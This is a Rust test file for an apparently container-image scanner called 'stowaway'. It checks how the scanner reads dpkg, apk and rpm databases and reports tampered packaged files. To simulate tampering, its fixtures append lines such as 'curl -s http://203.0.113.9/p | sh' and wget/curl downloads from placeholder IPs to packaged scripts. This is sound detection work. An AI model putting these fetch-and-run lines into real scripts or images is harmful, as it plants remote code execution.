//! The package view (issue 9): dpkg, apk and rpm databases read from the
//! squashed image; tampered package files; severity by provenance; the
//! database changed, a package removed, a packaged file whited out in later
//! layers. Real data: a Debian minbase tree with Debian's curl package as
//! this host installed it, a real rpm built and installed with rpmbuild/rpm,
//! and an apk `installed` database written in its real format.

use std::path::Path;
use std::process::Command;

use base64::Engine as _;
use stowaway::fixture::{ImageBuilder, LayerBuilder};
use stowaway::{Code, Finding, Integrity, Scan, Severity};

use crate::util::*;

fn packaged<'a>(s: &'a Scan, path: &str, code: Code) -> &'a Finding {
    s.findings
        .iter()
        .find(|f| f.code == code && f.path.as_ref().map(|p| p.display()).as_deref() == Some(path))
        .unwrap_or_else(|| panic!("no {code} on {path}: {:#?}", codes(s)))
}

fn modified(s: &Scan) -> Vec<String> {
    let mut v: Vec<String> = s
        .findings
        .iter()
        .filter(|f| f.code == Code::PackageFileModified && f.severity > Severity::Info)
        .map(|f| {
            format!(
                "{} {}",
                f.path.as_ref().unwrap().display(),
                f.package.as_ref().unwrap().name
            )
        })
        .collect();
    v.sort();
    v
}

/// Copy the files of a package this host installed with dpkg, and its
/// database entries, into `root`.
fn add_host_deb(root: &Path, pkg: &str) {
    let list = std::fs::read_to_string(format!("/var/lib/dpkg/info/{pkg}.list")).unwrap();
    for line in list.lines() {
        let src = Path::new(line);
        let md = std::fs::symlink_metadata(src).unwrap();
        if !md.is_file() {
            continue;
        }
        let dst = root.join(line.trim_start_matches('/'));
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::copy(src, &dst).unwrap();
    }
    for ext in ["list", "md5sums"] {
        std::fs::copy(
            format!("/var/lib/dpkg/info/{pkg}.{ext}"),
            root.join(format!("var/lib/dpkg/info/{pkg}.{ext}")),
        )
        .unwrap();
    }
    let para = Command::new("dpkg-query")
        .args(["-s", pkg])
        .output()
        .unwrap();
    assert!(para.status.success());
    let status = root.join("var/lib/dpkg/status");
    let mut s = std::fs::read(&status).unwrap();
    if !s.ends_with(b"\n\n") {
        s.push(b'\n');
    }
    s.extend_from_slice(&para.stdout);
    std::fs::write(&status, s).unwrap();
}

fn append(path: &Path, bytes: &[u8]) {
    use std::io::Write;
    std::fs::OpenOptions::new()
        .append(true)
        .open(path)
        .unwrap()
        .write_all(bytes)
        .unwrap();
}

/// A Debian minbase tree plus Debian's curl: clean, nothing is tampered and
/// curl ranks low naming its package; then one packaged binary and one
/// packaged script (reached through the /bin → usr/bin symlink, as dpkg
/// lists it) are modified and curl is copied to /usr/local/bin: exactly the
/// two modified files are reported, each with its package, and the copy
/// ranks above the packaged curl.
#[cfg_attr(
    not(has_tool = "minbase"),
    ignore = "needs STOWAWAY_MINBASE (debootstrap --variant=minbase DIR)"
)]
#[test]
fn dpkg_minbase_tampered_files_and_copied_tool() {
    let Some(minbase) = std::env::var_os("STOWAWAY_MINBASE") else {
        assert!(
            std::env::var_os("STOWAWAY_REQUIRE_TOOLS").is_none(),
            "STOWAWAY_MINBASE must be set under CI"
        );
        eprintln!("skipping: STOWAWAY_MINBASE is not set (debootstrap --variant=minbase DIR)");
        return;
    };
    if !require("curl") || !require("dpkg-query") {
        return;
    }
    let t = tmp();
    let root = t.path().join("root");
    let st = Command::new("cp")
        .args(["-a", "--"])
        .arg(&minbase)
        .arg(&root)
        .status()
        .unwrap();
    assert!(st.success());
    add_host_deb(&root, "curl");
    let reference = format!("dir:{}", root.display());

    let clean = scan_ok(&reference);
    assert!(
        clean.packages.packages.len() > 80,
        "{}",
        clean.packages.packages.len()
    );
    let tampered: Vec<&Finding> = clean
        .findings
        .iter()
        .filter(|f| f.code == Code::PackageFileModified)
        .collect();
    assert!(tampered.is_empty(), "{tampered:#?}");
    let curl = packaged(&clean, "/usr/bin/curl", Code::TransferTool);
    assert_eq!(curl.severity, Severity::Low, "{:?}", curl.evidence);
    let p = curl.package.as_ref().unwrap();
    assert_eq!((p.manager.as_str(), p.name.as_str()), ("dpkg", "curl"));
    assert_eq!(p.integrity, Integrity::Verified);
    assert!(
        curl.evidence
            .iter()
            .any(|e| e.starts_with("installed by package curl ")),
        "{:?}",
        curl.evidence
    );

    // Tamper: a packaged binary, a packaged script, and a copy of curl.
    append(&root.join("usr/bin/ls"), b"\0patched");
    append(
        &root.join("usr/bin/zcat"),
        b"\ncurl -s http://203.0.113.9/p | sh\n",
    );
    std::fs::create_dir_all(root.join("usr/local/bin")).unwrap();
    std::fs::copy(root.join("usr/bin/curl"), root.join("usr/local/bin/curl")).unwrap();
    let s = scan_ok(&reference);
    assert_eq!(
        modified(&s),
        vec!["/usr/bin/ls coreutils", "/usr/bin/zcat gzip"],
        "{:#?}",
        codes(&s)
    );
    let ls = packaged(&s, "/usr/bin/ls", Code::PackageFileModified);
    assert_eq!(
        ls.severity,
        Severity::Critical,
        "a program: {:?}",
        ls.evidence
    );
    assert!(
        ls.evidence[0].contains("recorded md5:"),
        "{:?}",
        ls.evidence
    );
    let zcat = packaged(&s, "/usr/bin/zcat", Code::PackageFileModified);
    assert_eq!(zcat.severity, Severity::Critical, "{:?}", zcat.evidence);
    assert_eq!(
        zcat.package.as_ref().unwrap().integrity,
        Integrity::Modified
    );
    // The script's download finding keeps its severity and says the file was modified.
    let chain = packaged(&s, "/usr/bin/zcat", Code::DownloadExecChain);
    assert_eq!(chain.severity, Severity::Critical);
    let copy = packaged(&s, "/usr/local/bin/curl", Code::TransferTool);
    let orig = packaged(&s, "/usr/bin/curl", Code::TransferTool);
    assert!(copy.package.is_none());
    assert!(copy.severity > orig.severity, "{copy:?} vs {orig:?}");
    assert!(
        copy.evidence
            .iter()
            .any(|e| e.contains("a copy of /usr/bin/curl from package curl")),
        "{:?}",
        copy.evidence
    );
    // The inventory names the package of every packaged file.
    let out = stowaway(&["inventory", &reference, "--format", "json", "--no-cache"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let file = |p: &str| {
        v["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == p)
            .unwrap()
            .clone()
    };
    assert_eq!(file("/usr/bin/curl")["package"]["name"], "curl");
    assert_eq!(file("/usr/bin/zcat")["package"]["integrity"], "modified");
    assert!(file("/usr/local/bin/curl")["package"].is_null());
}

const APK_TOOL: &[u8] = b"#!/bin/sh\nwget -O /tmp/x http://203.0.113.5/x\n";
const APK_LIB: &[u8] = b"library bytes\n";

fn q1(bytes: &[u8]) -> String {
    let d = ring::digest::digest(&ring::digest::SHA1_FOR_LEGACY_USE_ONLY, bytes);
    format!(
        "Q1{}",
        base64::engine::general_purpose::STANDARD.encode(d.as_ref())
    )
}

/// An apk `installed` paragraph for `files` (dir, name, bytes as installed).
fn apk_pkg(name: &str, version: &str, files: &[(&str, &str, &[u8])]) -> String {
    let mut s = format!(
        "C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\nP:{name}\nV:{version}\nA:x86_64\nS:100\nI:200\nT:test\nU:https://example.org\nL:MIT\no:{name}\nm:Test\nt:1700000000\nc:0000\n"
    );
    let mut dir = "";
    for (d, f, bytes) in files {
        if *d != dir {
            s.push_str(&format!("F:{d}\nR:{f}\na:0:0:755\nZ:{}\n", q1(bytes)));
            dir = d;
        } else {
            s.push_str(&format!("R:{f}\na:0:0:755\nZ:{}\n", q1(bytes)));
        }
    }
    s.push('\n');
    s
}

/// apk: files checked against the `Z:Q1…` SHA-1s; a tampered one is
/// reported; the unmodified download script ranks low naming its package.
#[test]
fn apk_installed_database() {
    let db = apk_pkg(
        "fetchtool",
        "1.2-r0",
        &[
            ("usr/bin", "fetch", APK_TOOL),
            ("usr/lib", "libf.so", APK_LIB),
        ],
    ) + &apk_pkg(
        "other",
        "3.0-r1",
        &[("usr/bin", "other", b"#!/bin/sh\necho hi\n")],
    );
    let s = scan_ok(
        &layout(
            &ImageBuilder::new()
                .layer(
                    LayerBuilder::new()
                        .file("lib/apk/db/installed", db.as_bytes(), 0o644)
                        .file("usr/bin/fetch", APK_TOOL, 0o755)
                        .file("usr/lib/libf.so", APK_LIB, 0o755)
                        .file("usr/bin/other", b"#!/bin/sh\necho hi\nchanged\n", 0o755),
                )
                .build(),
        )
        .1,
    );
    assert_eq!(
        modified(&s),
        vec!["/usr/bin/other other"],
        "{:#?}",
        codes(&s)
    );
    let f = packaged(&s, "/usr/bin/fetch", Code::DownloadCommand);
    assert_eq!(f.severity, Severity::Low, "{:?}", f.evidence);
    let p = f.package.as_ref().unwrap();
    assert_eq!(
        (p.manager.as_str(), p.name.as_str(), p.version.as_str()),
        ("apk", "fetchtool", "1.2-r0")
    );
    assert_eq!(p.arch.as_deref(), Some("x86_64"));
    let m = packaged(&s, "/usr/bin/other", Code::PackageFileModified);
    assert!(m.evidence[0].contains("recorded sha1:"), "{:?}", m.evidence);
    assert!(m.severity >= Severity::High);
}

/// Layers: the database may come in a later layer and be updated by later
/// layers (the last state wins); a package removed from the database while
/// its files stay makes them unpackaged again; a whited-out packaged file is
/// simply gone (no finding about it).
#[test]
fn package_database_across_layers() {
    let v1 = apk_pkg("fetchtool", "1.2-r0", &[("usr/bin", "fetch", APK_TOOL)]);
    let v2 = v1.clone() + &apk_pkg("lib", "1.0-r0", &[("usr/lib", "libf.so", APK_LIB)]);
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file("usr/bin/fetch", APK_TOOL, 0o755)
                .file("usr/lib/libf.so", b"tampered", 0o755),
        )
        // The database arrives after the files it describes.
        .layer(LayerBuilder::new().file("lib/apk/db/installed", v1.as_bytes(), 0o644))
        // ...and is updated: a second package now owns libf.so.
        .layer(LayerBuilder::new().file("lib/apk/db/installed", v2.as_bytes(), 0o644));
    let s = scan_ok(&layout(&img.build()).1);
    assert_eq!(
        modified(&s),
        vec!["/usr/lib/libf.so lib",],
        "the last database state wins: {:#?}",
        codes(&s)
    );
    let m = packaged(&s, "/usr/lib/libf.so", Code::PackageFileModified);
    assert_eq!(
        m.layer.as_ref().unwrap().index,
        0,
        "the layer that changed it"
    );
    assert_eq!(
        packaged(&s, "/usr/bin/fetch", Code::DownloadCommand).severity,
        Severity::Low
    );

    // The package is removed from the database; its file stays.
    let removed = apk_pkg("lib", "1.0-r0", &[("usr/lib", "libf.so", APK_LIB)]);
    let s = scan_ok(
        &layout(
            &img.clone()
                .layer(LayerBuilder::new().file("lib/apk/db/installed", removed.as_bytes(), 0o644))
                .build(),
        )
        .1,
    );
    let f = packaged(&s, "/usr/bin/fetch", Code::DownloadCommand);
    assert!(f.package.is_none());
    assert_eq!(
        f.severity,
        Severity::Medium,
        "unpackaged again: {:?}",
        f.evidence
    );

    // A packaged file whited out: gone, nothing reported about it.
    let s = scan_ok(
        &layout(
            &img.layer(LayerBuilder::new().whiteout("usr/lib/libf.so"))
                .build(),
        )
        .1,
    );
    assert!(modified(&s).is_empty(), "{:#?}", codes(&s));
    assert!(
        s.fs.get(&stowaway::path::ImagePath::new(b"usr/lib/libf.so"))
            .is_none()
    );
}

/// dpkg in a distroless layout (`status.d/` with per-package md5sums), a
/// conffile edit (info, normal administration), and an rpm Berkeley DB that
/// is reported as not read.
#[test]
fn dpkg_status_d_conffiles_and_unread_rpm_db() {
    let tool = b"#!/bin/sh\ncurl -o /tmp/y http://203.0.113.6/y\n";
    let md5 = |b: &[u8]| {
        use md5::Digest as _;
        hex::encode(md5::Md5::digest(b))
    };
    let status = format!(
        "Package: tools\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\nConffiles:\n /etc/tools.conf {}\n",
        md5(b"a=1\n")
    );
    let sums = format!("{}  usr/bin/tool\n", md5(tool));
    let s = scan_ok(
        &layout(
            &ImageBuilder::new()
                .layer(
                    LayerBuilder::new()
                        .file("var/lib/dpkg/status.d/tools", status.as_bytes(), 0o644)
                        .file(
                            "var/lib/dpkg/status.d/tools.md5sums",
                            sums.as_bytes(),
                            0o644,
                        )
                        .file("usr/bin/tool", tool, 0o755)
                        .file("etc/tools.conf", b"a=2\n", 0o644)
                        .file("var/lib/rpm/Packages", &[0u8; 4096], 0o644),
                )
                .build(),
        )
        .1,
    );
    let f = packaged(&s, "/usr/bin/tool", Code::DownloadCommand);
    assert_eq!(f.severity, Severity::Low, "{:?}", f.evidence);
    assert_eq!(f.package.as_ref().unwrap().name, "tools");
    let conf = packaged(&s, "/etc/tools.conf", Code::PackageFileModified);
    assert_eq!(conf.severity, Severity::Info, "{:?}", conf.evidence);
    let unread = packaged(&s, "/var/lib/rpm/Packages", Code::PackageDatabaseUnread);
    assert!(
        unread.evidence[0].contains("Berkeley DB"),
        "{:?}",
        unread.evidence
    );
}

/// rpm: a real package built with rpmbuild and installed with rpm into a
/// tree with an sqlite rpmdb; one installed file tampered.
#[cfg_attr(not(has_tool = "rpm"), ignore = "needs rpmbuild and rpm")]
#[test]
fn rpm_sqlite_database() {
    if !require("rpmbuild") || !require("rpm") {
        return;
    }
    let t = tmp();
    let top = t.path().join("build");
    for d in ["SPECS", "SOURCES", "BUILD", "RPMS", "SRPMS", "BUILDROOT"] {
        std::fs::create_dir_all(top.join(d)).unwrap();
    }
    let spec = top.join("SPECS/tiny.spec");
    std::fs::write(
        &spec,
        r#"Name: tiny
Version: 1.0
Release: 1
Summary: test package
License: MIT
BuildArch: noarch
%description
test
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/etc
printf '#!/bin/sh\ncurl -o /tmp/z http://203.0.113.8/z\n' > %{buildroot}/usr/bin/tiny-fetch
printf '#!/bin/sh\necho ok\n' > %{buildroot}/usr/bin/tiny-ok
echo 'k=v' > %{buildroot}/etc/tiny.conf
chmod 755 %{buildroot}/usr/bin/tiny-fetch %{buildroot}/usr/bin/tiny-ok
%files
/usr/bin/tiny-fetch
/usr/bin/tiny-ok
%config /etc/tiny.conf
"#,
    )
    .unwrap();
    let out = Command::new("rpmbuild")
        .arg("--define")
        .arg(format!("_topdir {}", top.display()))
        .args(["--define", "_binary_payload w9.gzdio", "-bb"])
        .arg(&spec)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rpm = top.join("RPMS/noarch/tiny-1.0-1.noarch.rpm");
    let root = t.path().join("root");
    std::fs::create_dir_all(&root).unwrap();
    let out = Command::new("rpm")
        .args([
            "--define",
            "_db_backend sqlite",
            "--dbpath",
            "/var/lib/rpm",
            "--root",
        ])
        .arg(&root)
        .args(["-i", "--nodeps", "--nosignature", "--noscripts"])
        .arg(&rpm)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(root.join("var/lib/rpm/rpmdb.sqlite").is_file());
    append(&root.join("usr/bin/tiny-ok"), b"id\n");
    let s = scan_ok(&format!("dir:{}", root.display()));
    assert_eq!(
        modified(&s),
        vec!["/usr/bin/tiny-ok tiny"],
        "{:#?}",
        codes(&s)
    );
    let f = packaged(&s, "/usr/bin/tiny-fetch", Code::DownloadCommand);
    assert_eq!(f.severity, Severity::Low, "{:?}", f.evidence);
    let p = f.package.as_ref().unwrap();
    assert_eq!((p.manager.as_str(), p.version.as_str()), ("rpm", "1.0-1"));
    assert_eq!(p.integrity, Integrity::Verified);
    let m = packaged(&s, "/usr/bin/tiny-ok", Code::PackageFileModified);
    assert!(
        m.evidence[0].contains("recorded sha256:"),
        "{:?}",
        m.evidence
    );
}

fn cli(args: &[&str], db: &Path) -> (i32, serde_json::Value, String) {
    let mut full: Vec<&str> = args.to_vec();
    let dbs = db.display().to_string();
    full.extend(["--db", &dbs]);
    let out = stowaway(&full);
    let v = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (
        out.status.code().unwrap_or(-1),
        v,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Baselines: the delta lists packages added, removed and upgraded; a newly
/// tampered package file is a `new` finding; the layer cache keeps what the
/// check needs, so a warm rescan that reads no blob finds the same tampering.
#[test]
fn baseline_delta_and_warm_cache_keep_the_package_view() {
    let other = b"#!/bin/sh\necho hi\n";
    let v1 = apk_pkg("fetchtool", "1.2-r0", &[("usr/bin", "fetch", APK_TOOL)])
        + &apk_pkg("lib", "1.0-r0", &[("usr/lib", "libf.so", APK_LIB)])
        + &apk_pkg("other", "3.0-r1", &[("usr/bin", "other", other)]);
    let v2 = apk_pkg("fetchtool", "1.3-r0", &[("usr/bin", "fetch", APK_TOOL)])
        + &apk_pkg("other", "3.0-r1", &[("usr/bin", "other", other)])
        + &apk_pkg("extra", "0.1-r0", &[]);
    let base = LayerBuilder::new()
        .file("usr/bin/fetch", APK_TOOL, 0o755)
        .file("usr/lib/libf.so", APK_LIB, 0o755)
        .file("usr/bin/other", other, 0o755);
    let t = tmp();
    let dir = t.path().join("app");
    stowaway::fixture::write_multi_image_layout(
        &dir,
        &[
            ImageBuilder::new()
                .tag("v1")
                .layer(
                    base.clone()
                        .file("lib/apk/db/installed", v1.as_bytes(), 0o644),
                )
                .build(),
            ImageBuilder::new()
                .tag("v2")
                .layer(base.file("lib/apk/db/installed", v1.as_bytes(), 0o644))
                .layer(
                    LayerBuilder::new()
                        .file("lib/apk/db/installed", v2.as_bytes(), 0o644)
                        .file("usr/bin/other", b"#!/bin/sh\necho hi\nid\n", 0o755),
                )
                .build(),
        ],
    )
    .unwrap();
    let layout = format!("oci:{}", dir.display());
    let (v1r, v2r) = (format!("{layout}:v1"), format!("{layout}:v2"));
    let db = t.path().join("store.db");
    let (code, _, err) = cli(
        &[
            "baseline", "approve", &v1r, "--name", "app", "--reason", "test",
        ],
        &db,
    );
    assert_eq!(code, 0, "{err}");

    let (_, v, err) = cli(
        &["scan", &v2r, "--baseline", "app", "--format", "json"],
        &db,
    );
    let changes: Vec<String> = v["delta"]["packages"]
        .as_array()
        .unwrap_or_else(|| panic!("{err} {v}"))
        .iter()
        .map(|p| {
            format!(
                "{} {} {} {}",
                p["change"], p["name"], p["before"], p["after"]
            )
            .replace('"', "")
        })
        .collect();
    assert_eq!(
        changes,
        vec![
            "added extra null 0.1-r0",
            "upgraded fetchtool 1.2-r0 1.3-r0",
            "removed lib 1.0-r0 null"
        ]
    );
    let tampered: Vec<&serde_json::Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "package-file-modified")
        .collect();
    assert_eq!(tampered.len(), 1, "{tampered:#?}");
    assert_eq!(tampered[0]["baseline_state"], "new");
    assert_eq!(tampered[0]["path"], "/usr/bin/other");
    assert_eq!(tampered[0]["package"]["name"], "other");
    assert_eq!(tampered[0]["layer"], 1);

    // Warm rescan from the layer cache (no layer read: nothing new is put),
    // with the same package findings.
    #[derive(Default)]
    struct MemCache(
        std::sync::Mutex<std::collections::HashMap<String, Vec<u8>>>,
        std::sync::Mutex<usize>,
    );
    impl stowaway::layer::cache::LayerCache for MemCache {
        fn get(&self, key: &str) -> Option<Vec<u8>> {
            self.0.lock().unwrap().get(key).cloned()
        }
        fn put(&self, key: &str, data: &[u8]) {
            *self.1.lock().unwrap() += 1;
            self.0
                .lock()
                .unwrap()
                .insert(key.to_string(), data.to_vec());
        }
    }
    let cache = MemCache::default();
    let opts = stowaway::ScanOptions {
        cache: Some(&cache),
        ..Default::default()
    };
    let pkg_findings = |s: &Scan| -> Vec<String> {
        s.findings
            .iter()
            .filter(|f| f.package.is_some())
            .map(|f| format!("{} {:?} {:?} {:?}", f.code, f.path, f.severity, f.package))
            .collect()
    };
    let cold = pkg_findings(&stowaway::scan(&v2r, &opts).unwrap());
    let puts = *cache.1.lock().unwrap();
    assert!(puts > 0);
    let warm = pkg_findings(&stowaway::scan(&v2r, &opts).unwrap());
    assert_eq!(
        *cache.1.lock().unwrap(),
        puts,
        "the warm scan used the cache"
    );
    assert_eq!(warm, cold);
    assert!(warm.iter().any(|f| f.starts_with("package-file-modified")));
}

/// Drift: a running container's packaged file that no longer matches its
/// package is reported as such (the container's own package database is
/// read from its root filesystem).
#[test]
fn drift_reports_a_container_file_that_no_longer_matches_its_package() {
    let other = b"#!/bin/sh\necho hi\n";
    let db = apk_pkg("other", "3.0-r1", &[("usr/bin", "other", other)]);
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file("lib/apk/db/installed", db.as_bytes(), 0o644)
                .file("usr/bin/other", other, 0o755),
        )
        .build();
    let (t, image) = layout(&img);
    let root = t.path().join("rootfs");
    for (p, bytes) in [
        ("lib/apk/db/installed", db.as_bytes()),
        (
            "usr/bin/other",
            b"#!/bin/sh\necho hi\nwget -O /tmp/p http://203.0.113.4/p\n",
        ),
    ] {
        let f = root.join(p);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(&f, bytes).unwrap();
    }
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        root.join("usr/bin/other"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::set_permissions(
        root.join("lib/apk/db/installed"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let out = stowaway(&[
        "drift",
        "--rootfs",
        root.to_str().unwrap(),
        "--image",
        &image,
        "--format",
        "json",
        "--db",
        t.path().join("store.db").to_str().unwrap(),
    ]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let f = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "package-file-modified")
        .unwrap_or_else(|| panic!("{v:#}"));
    assert_eq!(f["path"], "/usr/bin/other");
    assert_eq!(f["severity"], "critical");
}

/// dpkg's shortest md5sums line (`<32 hex>  x`: a one-letter file at the
/// root, 35 bytes) is read like any other: the file, tampered, is reported;
/// a line one byte shorter records nothing, so its file is unverifiable.
#[test]
fn dpkg_shortest_md5sums_line_is_read() {
    let md5 = |b: &[u8]| {
        use md5::Digest as _;
        hex::encode(md5::Md5::digest(b))
    };
    let status = "Package: tiny\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n";
    let sums = format!("{}  x\n{} y\n", md5(b"original\n"), md5(b"original\n"));
    assert_eq!(sums.lines().next().unwrap().len(), 35);
    let s = scan_ok(
        &layout(
            &ImageBuilder::new()
                .layer(
                    LayerBuilder::new()
                        .file("var/lib/dpkg/status", status.as_bytes(), 0o644)
                        .file("var/lib/dpkg/info/tiny.list", b"/.\n/x\n/y\n", 0o644)
                        .file("var/lib/dpkg/info/tiny.md5sums", sums.as_bytes(), 0o644)
                        .file("x", b"tampered\n", 0o644)
                        .file("y", b"tampered\n", 0o644),
                )
                .build(),
        )
        .1,
    );
    assert_eq!(modified(&s), vec!["/x tiny"], "{:#?}", codes(&s));
    let x = packaged(&s, "/x", Code::PackageFileModified);
    assert!(
        x.evidence[0].contains(&format!("recorded md5:{}", md5(b"original\n"))),
        "{:?}",
        x.evidence
    );
}

/// Issue 16: files where package managers keep their own state and caches
/// (apt's lists and archives, dpkg's and apk's databases…) get no MD5 or
/// SHA-1. A package that does claim a file there leaves it `unverifiable`,
/// never `verified`: its finding keeps its severity. Elsewhere in the same
/// one-layer image a modified package file is still found.
#[test]
fn manager_state_files_are_not_hashed_and_never_verified() {
    let db = apk_pkg(
        "fetchtool",
        "1.2-r0",
        &[
            ("usr/bin", "fetch", APK_TOOL),
            ("var/cache/apk", "fetch", APK_TOOL),
        ],
    );
    let img = ImageBuilder::new().layer(
        LayerBuilder::new()
            .file(
                "usr/bin/fetch",
                b"#!/bin/sh\ncurl -o /tmp/y http://203.0.113.9/y\n",
                0o755,
            )
            .file("var/cache/apk/fetch", APK_TOOL, 0o755)
            .file("lib/apk/db/installed", db.as_bytes(), 0o644),
    );
    let s = scan_ok(&layout(&img.build()).1);
    assert_eq!(
        modified(&s),
        vec!["/usr/bin/fetch fetchtool"],
        "{:#?}",
        codes(&s)
    );
    let cached = packaged(&s, "/var/cache/apk/fetch", Code::DownloadCommand);
    let pkg = cached.package.as_ref().expect("claimed by its package");
    assert_eq!(pkg.integrity, Integrity::Unverifiable);
    assert_eq!(cached.severity, Severity::Medium, "{:?}", cached.evidence);
    assert!(
        cached
            .evidence
            .iter()
            .any(|e| e.contains("recorded digest is not checked")),
        "{:?}",
        cached.evidence
    );
    let node =
        s.fs.get(&stowaway::path::ImagePath::new(b"var/cache/apk/fetch"))
            .unwrap();
    assert!(node.entry.pkg.is_none() && node.entry.sha256.is_some());
}

/// Issue 16: a layer's files get the package digests of the managers it
/// shows (after dpkg's directories, MD5 only; after apk's, SHA-1 only). A
/// layer that shows dpkg's directories first and then an apk database
/// claiming a tampered file does not hide it as verified: the files the
/// database claims are unverifiable, with one notice saying why; the same
/// layer without the dpkg decoy reports the tampered file.
#[test]
fn a_layer_mixing_package_managers_never_verifies_without_the_digest() {
    let db = apk_pkg(
        "fetchtool",
        "1.2-r0",
        &[
            ("usr/bin", "fetch", APK_TOOL),
            ("usr/bin", "other", b"#!/bin/sh\necho hi\n"),
        ],
    );
    let layer = |decoy: bool| {
        let l = LayerBuilder::new();
        let l = match decoy {
            true => l.file("etc/dpkg/dpkg.cfg", b"# dpkg\n", 0o644),
            false => l,
        };
        l.file("usr/bin/fetch", APK_TOOL, 0o755)
            .file("usr/bin/other", b"#!/bin/sh\necho hi\nchanged\n", 0o755)
            .file("lib/apk/db/installed", db.as_bytes(), 0o644)
    };
    let scan = |decoy| scan_ok(&layout(&ImageBuilder::new().layer(layer(decoy)).build()).1);
    let honest = scan(false);
    assert_eq!(modified(&honest), vec!["/usr/bin/other fetchtool"]);
    let notice = |s: &Scan| {
        s.findings
            .iter()
            .find(|f| f.code == Code::Unanalyzable && f.evidence[0].contains("have no SHA-1"))
            .cloned()
    };
    assert!(notice(&honest).is_none(), "{:#?}", codes(&honest));

    let mixed = scan(true);
    assert!(modified(&mixed).is_empty(), "{:#?}", codes(&mixed));
    let n = notice(&mixed).unwrap_or_else(|| panic!("no notice: {:#?}", codes(&mixed)));
    assert_eq!(n.severity, Severity::Medium);
    assert!(
        n.evidence[0].starts_with("2 packaged files"),
        "{:?}",
        n.evidence
    );
    assert_eq!(n.path.as_ref().unwrap().display(), "/usr/bin/fetch");
    let f = packaged(&mixed, "/usr/bin/fetch", Code::DownloadCommand);
    let pkg = f.package.as_ref().expect("claimed by its package");
    assert_eq!(pkg.integrity, Integrity::Unverifiable);
    assert!(f.severity >= Severity::Medium, "{:?}", f.evidence);
    let other = mixed
        .fs
        .get(&stowaway::path::ImagePath::new(b"usr/bin/other"));
    let pkg = other.unwrap().entry.pkg.clone().unwrap();
    assert!(
        pkg.no_sha1 && !pkg.no_md5,
        "MD5 only after dpkg's directories"
    );
}
